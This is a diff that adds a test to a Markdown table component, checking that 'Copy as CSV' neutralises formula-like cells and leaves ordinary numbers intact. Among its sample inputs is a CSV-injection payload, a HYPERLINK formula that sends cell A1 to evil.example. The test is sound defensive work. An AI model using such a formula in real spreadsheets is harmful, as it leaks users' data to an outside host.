@@ -32,6 +32,38 @@ describe('a table in Markdown', () => {
     );
   });
 
+  it('is copied as CSV without a formula that a spreadsheet would run', async () => {
+    const cells = [
+      '=1+1',
+      '+1+cmd',
+      '-1+2',
+      '@SUM(A1)',
+      '-5',
+      '+3.14',
+      '-1,234.50',
+      '1e-5',
+      '-',
+      'a=b',
+    ];
+    const element = await stream([`|a|b|\n|-|-|\n${cells.map(cell => `|${cell}|x|\n`).join('')}`]);
+    expect((await copied(element, 'Copy as CSV')).split('\r\n').slice(1)).to.deep.equal([
+      "'=1+1,x",
+      "'+1+cmd,x",
+      "'-1+2,x",
+      "'@SUM(A1),x",
+      '-5,x',
+      '+3.14,x',
+      '"-1,234.50",x',
+      '1e-5,x',
+      '-,x',
+      'a=b,x',
+    ]);
+    const formula = await stream(['|a|\n|-|\n|=HYPERLINK("https://evil.example/?"&A1,"ok")|\n']);
+    expect(await copied(formula, 'Copy as CSV')).to.equal(
+      'a\r\n"\'=HYPERLINK(""https://evil.example/?""&A1,""ok"")"',
+    );
+  });
+
   it('can be copied as the Markdown that it was', async () => {
     expect(await copied(await stream([table]), 'Copy as Markdown')).to.equal(
       '| City | Note |\n| :-- | --: |\n| Praha | a \\| b |\n| "Ústí", nad Labem | **bold** |',
